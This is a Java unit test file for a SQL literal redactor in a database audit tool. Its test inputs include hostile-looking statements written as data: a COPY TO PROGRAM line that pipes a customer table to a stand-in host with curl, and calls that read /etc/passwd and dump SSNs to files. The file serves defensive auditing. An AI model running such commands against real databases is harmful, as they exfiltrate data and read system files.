package dev.veil.audit;

import dev.veil.analysis.Dialect;
import dev.veil.analysis.NameResolution;
import dev.veil.analysis.StatementAnalyzer;
import dev.veil.analysis.catalog.CatalogSnapshot;
import dev.veil.analysis.catalog.ColumnInfo;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

class LiteralRedactorTest {
    private final LiteralRedactor pg = new LiteralRedactor(Dialect.POSTGRESQL);
    private final LiteralRedactor mysql = new LiteralRedactor(Dialect.MYSQL);

    @Test
    void replacesStringsAndNumbersButKeepsNamesParametersAndComments() {
        assertThat(pg.redact("SELECT * FROM t2 WHERE email = 'a@b.c' AND id = 42 AND x > 1.5e3 AND y = $1 -- it's 7"))
                .isEqualTo("SELECT * FROM t2 WHERE email = ? AND id = ? AND x > ? AND y = $1 -- it's 7");
    }

    @Test
    void handlesDoubledQuotesEscapeStringsAndDollarQuotes() {
        assertThat(pg.redact("SELECT 'it''s', E'a\\'b', $$x'y$$, $tag$ z $tag$, \"col 1\" FROM t"))
                .isEqualTo("SELECT ?, ?, ?, ?, \"col 1\" FROM t");
    }

    @Test
    void mysqlStringsUseBackslashesAndDoubleQuotes() {
        assertThat(mysql.redact("SELECT `a`, \"x\\\"y\", 'p\\'q', 0x1F FROM t WHERE n = 3"))
                .isEqualTo("SELECT `a`, ?, ?, ? FROM t WHERE n = ?");
    }

    @Test
    void sameShapeSameFingerprint() {
        assertThat(pg.read("SELECT * FROM t WHERE id = 1").fingerprint())
                .isEqualTo(pg.read("SELECT *  FROM t\nWHERE id = 99").fingerprint())
                .isNotEqualTo(pg.read("SELECT * FROM t WHERE name = 1").fingerprint());
    }

    @Test
    void recordsTheRedactedTextWithTheFingerprint() {
        assertThat(mysql.read("SELECT 'x' FROM t").text()).isEqualTo("SELECT ? FROM t");
    }

    @Test
    void theFingerprintIsTheOneTheAnalysisGives() {
        CatalogSnapshot catalog = CatalogSnapshot.builder(Dialect.POSTGRESQL, "shop")
                .table("public", "customers", new ColumnInfo("id", "int4", false), new ColumnInfo("email", "text", false))
                .build();
        String sql = "SELECT email FROM customers WHERE id IN (1, 2, 3) -- report";
        String analysed = new StatementAnalyzer().analyze(Dialect.POSTGRESQL, catalog, NameResolution.postgres("shop"), sql)
                .fingerprint();
        assertThat(pg.read(sql).fingerprint()).isEqualTo(analysed).hasSize(16);
    }

    @Test
    void literalsInsideMySqlVersionedCommentsAreCodeAndRedacted() {
        assertThat(mysql.redact("SELECT /*!50000 'secret', */ 1 /* 'kept' */"))
                .isEqualTo("SELECT /*!50000 ?, */ ? /* 'kept' */");
    }

    @Test
    void prefixedLiteralsBecomeOneQuestionMark() {
        assertThat(pg.redact("SELECT B'1010', X'ff', N'n', U&'d\\0061t', e'x'")).isEqualTo("SELECT ?, ?, ?, ?, ?");
        assertThat(mysql.redact("SELECT _utf8mb4'x', _latin1 0x41, x'ff', b'01'")).isEqualTo("SELECT ?, ?, ?, ?");
    }

    @Test
    void anUnterminatedStringIsRedactedToTheEnd() {
        assertThat(pg.redact("SELECT 1 WHERE pw = 'hunter2")).isEqualTo("SELECT ? WHERE pw = ?");
        assertThat(mysql.redact("SELECT \"hunter2")).isEqualTo("SELECT ?");
        assertThat(pg.redact("SELECT 1 /* open")).isEqualTo("SELECT ? /* open");
    }

    @Test
    void namesThatStartWithDigitsStayInMySql() {
        assertThat(mysql.redact("SELECT 1abc, 2 FROM t")).isEqualTo("SELECT 1abc, ? FROM t");
    }

    // ---- literals that name programs, files, libraries and servers are kept; data and secrets are not ----

    @Test
    void copyKeepsItsProgramAndFileButNotItsOptionsOrQuery() {
        assertThat(pg.redact("COPY customers TO PROGRAM 'curl -T - https://drop.example/x' WITH (FORMAT csv, NULL 'n/a')"))
                .isEqualTo("COPY customers TO PROGRAM 'curl -T - https://drop.example/x' WITH (FORMAT csv, NULL ?)");
        assertThat(pg.redact("COPY t (a, b) FROM PROGRAM 'gunzip -c /data/x.gz'"))
                .isEqualTo("COPY t (a, b) FROM PROGRAM 'gunzip -c /data/x.gz'");
        assertThat(pg.redact("COPY (SELECT email FROM customers WHERE city = 'Oslo') TO '/tmp/out.csv'"))
                .isEqualTo("COPY (SELECT email FROM customers WHERE city = ?) TO '/tmp/out.csv'");
        assertThat(pg.redact("copy t from e'/srv/in\\\\x.csv' (delimiter ';')"))
                .isEqualTo("copy t from e'/srv/in\\\\x.csv' (delimiter ?)");
        assertThat(pg.redact("COPY t FROM STDIN WITH (DELIMITER '|')")).isEqualTo("COPY t FROM STDIN WITH (DELIMITER ?)");
    }

    @Test
    void fileFunctionsKeepTheirPathsButNotOtherArguments() {
        assertThat(pg.redact("SELECT pg_read_file('/etc/passwd', 0, 200), pg_catalog.pg_read_binary_file('/x/y')"))
                .isEqualTo("SELECT pg_read_file('/etc/passwd', ?, ?), pg_catalog.pg_read_binary_file('/x/y')");
        assertThat(pg.redact("SELECT pg_stat_file('base'), pg_ls_dir('pg_wal'), lo_import('/etc/hosts'), lo_export(16403, '/tmp/lo')"))
                .isEqualTo("SELECT pg_stat_file('base'), pg_ls_dir('pg_wal'), lo_import('/etc/hosts'), lo_export(?, '/tmp/lo')");
        assertThat(pg.redact("SELECT pg_file_write('/tmp/f', 'card 4111 1111 1111 1111', false)"))
                .isEqualTo("SELECT pg_file_write('/tmp/f', ?, false)");
        assertThat(pg.redact("SELECT pg_read_file('/var/lib/' || 'pg/' || $1)"))
                .isEqualTo("SELECT pg_read_file('/var/lib/' || 'pg/' || $1)");
        assertThat(mysql.redact("SELECT LOAD_FILE('/etc/passwd'), UPPER('secret')"))
                .isEqualTo("SELECT LOAD_FILE('/etc/passwd'), UPPER(?)");
    }

    @Test
    void mysqlFileClausesKeepTheirPaths() {
        assertThat(mysql.redact("LOAD DATA LOCAL INFILE '/home/me/x.csv' INTO TABLE t FIELDS TERMINATED BY ','"))
                .isEqualTo("LOAD DATA LOCAL INFILE '/home/me/x.csv' INTO TABLE t FIELDS TERMINATED BY ?");
        assertThat(mysql.redact("LOAD XML INFILE \"/srv/x.xml\" INTO TABLE t ROWS IDENTIFIED BY '<row>'"))
                .isEqualTo("LOAD XML INFILE \"/srv/x.xml\" INTO TABLE t ROWS IDENTIFIED BY ?");
        assertThat(mysql.redact("SELECT * FROM customers WHERE id = 7 INTO OUTFILE '/tmp/c.txt' FIELDS ENCLOSED BY '\"'"))
                .isEqualTo("SELECT * FROM customers WHERE id = ? INTO OUTFILE '/tmp/c.txt' FIELDS ENCLOSED BY ?");
        assertThat(mysql.redact("SELECT ssn FROM customers INTO DUMPFILE '/var/lib/mysql-files/x'"))
                .isEqualTo("SELECT ssn FROM customers INTO DUMPFILE '/var/lib/mysql-files/x'");
        assertThat(mysql.redact("INSTALL PLUGIN p SONAME 'ha_p.so'")).isEqualTo("INSTALL PLUGIN p SONAME 'ha_p.so'");
        assertThat(mysql.redact("CREATE FUNCTION f RETURNS STRING SONAME 'udf.so'"))
                .isEqualTo("CREATE FUNCTION f RETURNS STRING SONAME 'udf.so'");
    }

    @Test
    void librariesAndDirectoriesAreKept() {
        assertThat(pg.redact("CREATE TABLESPACE fast OWNER app LOCATION '/ssd/pg'"))
                .isEqualTo("CREATE TABLESPACE fast OWNER app LOCATION '/ssd/pg'");
        assertThat(pg.redact("LOAD '$libdir/plugins/auto_explain'")).isEqualTo("LOAD '$libdir/plugins/auto_explain'");
        assertThat(pg.redact("CREATE FUNCTION add_one(integer) RETURNS integer AS '/usr/lib/funcs', 'add_one' LANGUAGE C STRICT"))
                .isEqualTo("CREATE FUNCTION add_one(integer) RETURNS integer AS '/usr/lib/funcs', 'add_one' LANGUAGE C STRICT");
        assertThat(pg.redact("CREATE FUNCTION f() RETURNS text AS 'SELECT ''secret''' LANGUAGE sql"))
                .as("a SQL function's body is code with data in it").isEqualTo("CREATE FUNCTION f() RETURNS text AS ? LANGUAGE sql");
        assertThat(pg.redact("ALTER SYSTEM SET archive_command = 'rsync %p backup:/wal/%f'"))
                .isEqualTo("ALTER SYSTEM SET archive_command = 'rsync %p backup:/wal/%f'");
        assertThat(pg.redact("ALTER SYSTEM SET work_mem = '64MB'")).isEqualTo("ALTER SYSTEM SET work_mem = ?");
        assertThat(mysql.redact("CREATE TABLE t (a int) DATA DIRECTORY = '/mnt/d' INDEX DIRECTORY '/mnt/i' COMMENT 'x'"))
                .isEqualTo("CREATE TABLE t (a int) DATA DIRECTORY = '/mnt/d' INDEX DIRECTORY '/mnt/i' COMMENT ?");
        assertThat(mysql.redact("CREATE TABLESPACE ts ADD DATAFILE 'ts1.ibd' ENGINE=InnoDB"))
                .isEqualTo("CREATE TABLESPACE ts ADD DATAFILE 'ts1.ibd' ENGINE=InnoDB");
    }

    @Test
    void connectionsKeepWhereTheyGoButNotTheirPasswords() {
        assertThat(pg.redact("SELECT * FROM dblink('host=db2 dbname=hr user=app password=s3cr3t', 'SELECT ssn FROM people WHERE id = 4') AS t(ssn text)"))
                .isEqualTo("SELECT * FROM dblink('host=db2 dbname=hr user=app password=?', ?) AS t(ssn text)");
        assertThat(pg.redact("SELECT dblink_connect('c1', 'postgresql://app:s3cr3t@db2:5432/hr?sslmode=require')"))
                .isEqualTo("SELECT dblink_connect('c1', 'postgresql://app:?@db2:5432/hr?sslmode=require')");
        assertThat(pg.redact("SELECT dblink_exec('c1', 'DELETE FROM t WHERE id = 5'), dblink('SELECT 1')"))
                .isEqualTo("SELECT dblink_exec('c1', ?), dblink(?)");
        assertThat(pg.redact("CREATE SERVER hr FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'db2', port '5432', dbname 'hr', fetch_size '100')"))
                .isEqualTo("CREATE SERVER hr FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'db2', port '5432', dbname 'hr', fetch_size ?)");
        assertThat(pg.redact("CREATE USER MAPPING FOR bob SERVER hr OPTIONS (user 'bob', password 'hunter2')"))
                .isEqualTo("CREATE USER MAPPING FOR bob SERVER hr OPTIONS (user 'bob', password ?)");
        assertThat(pg.redact("ALTER SERVER hr OPTIONS (SET host 'db3', ADD password_required 'false')"))
                .isEqualTo("ALTER SERVER hr OPTIONS (SET host 'db3', ADD password_required ?)");
        assertThat(pg.redact("CREATE FOREIGN TABLE logs (line text) SERVER files OPTIONS (program 'tail -n 100 /var/log/app', delimiter ',')"))
                .isEqualTo("CREATE FOREIGN TABLE logs (line text) SERVER files OPTIONS (program 'tail -n 100 /var/log/app', delimiter ?)");
        assertThat(pg.redact("CREATE SUBSCRIPTION s CONNECTION 'host=primary password=''a b'' dbname=shop' PUBLICATION p"))
                .isEqualTo("CREATE SUBSCRIPTION s CONNECTION 'host=primary password=? dbname=shop' PUBLICATION p");
        assertThat(mysql.redact("CREATE SERVER s FOREIGN DATA WRAPPER mysql OPTIONS (USER 'remote', HOST '10.0.0.2', DATABASE 'hr', PASSWORD 'p4ss', PORT 3306)"))
                .isEqualTo("CREATE SERVER s FOREIGN DATA WRAPPER mysql OPTIONS (USER 'remote', HOST '10.0.0.2', DATABASE 'hr', PASSWORD ?, PORT 3306)");
        assertThat(mysql.redact("CREATE TABLE f (id int) ENGINE=FEDERATED CONNECTION='mysql://app:p4ss@db2:3306/hr/people'"))
                .isEqualTo("CREATE TABLE f (id int) ENGINE=FEDERATED CONNECTION='mysql://app:?@db2:3306/hr/people'");
        assertThat(mysql.redact("CHANGE REPLICATION SOURCE TO SOURCE_HOST='db1', SOURCE_PORT=3306, SOURCE_USER='repl', SOURCE_PASSWORD='r3pl', SOURCE_SSL_CA='/etc/ca.pem'"))
                .isEqualTo("CHANGE REPLICATION SOURCE TO SOURCE_HOST='db1', SOURCE_PORT=3306, SOURCE_USER='repl', SOURCE_PASSWORD=?, SOURCE_SSL_CA='/etc/ca.pem'");
        assertThat(mysql.redact("CHANGE MASTER TO MASTER_HOST='db1', MASTER_PASSWORD='r3pl', MASTER_LOG_POS=4"))
                .isEqualTo("CHANGE MASTER TO MASTER_HOST='db1', MASTER_PASSWORD=?, MASTER_LOG_POS=?");
    }

    @Test
    void passwordsInsideAKeptCommandAreReplaced() {
        assertThat(pg.redact("COPY t TO PROGRAM 'PGPASSWORD=s3cr3t psql -h db2 -c \"\\copy x from stdin\"'"))
                .isEqualTo("COPY t TO PROGRAM 'PGPASSWORD=? psql -h db2 -c \"\\copy x from stdin\"'");
        assertThat(pg.redact("COPY t TO PROGRAM 'curl -T - https://u:pw@drop.example/x'"))
                .isEqualTo("COPY t TO PROGRAM 'curl -T - https://u:?@drop.example/x'");
        assertThat(mysql.redact("SELECT LOAD_FILE('/x/it''s')")).as("re-quoted only when a password was replaced")
                .isEqualTo("SELECT LOAD_FILE('/x/it''s')");
    }

    @Test
    void keptLiteralsDoNotChangeTheFingerprint() {
        assertThat(pg.read("COPY t TO PROGRAM 'gzip > /tmp/a.gz'").fingerprint())
                .isEqualTo(pg.read("COPY t TO PROGRAM 'cat > /dev/null'").fingerprint());
        assertThat(pg.read("SELECT pg_read_file('/etc/passwd')").fingerprint())
                .isEqualTo(pg.read("SELECT pg_read_file('/etc/hosts')").fingerprint());
        assertThat(mysql.read("LOAD DATA INFILE '/a' INTO TABLE t").fingerprint())
                .isEqualTo(mysql.read("LOAD DATA INFILE '/b' INTO TABLE t").fingerprint());
        assertThat(mysql.read("SELECT 1 INTO OUTFILE '/a'").fingerprint())
                .isEqualTo(mysql.read("SELECT 2 INTO OUTFILE '/b'").fingerprint());
    }

    @Test
    void eachStatementOfAMultiStatementTextIsReadOnItsOwn() {
        assertThat(pg.redact("SELECT 'x'; COPY t TO '/tmp/t'; SELECT pg_ls_dir('.'), 'y'"))
                .isEqualTo("SELECT ?; COPY t TO '/tmp/t'; SELECT pg_ls_dir('.'), ?");
    }
}
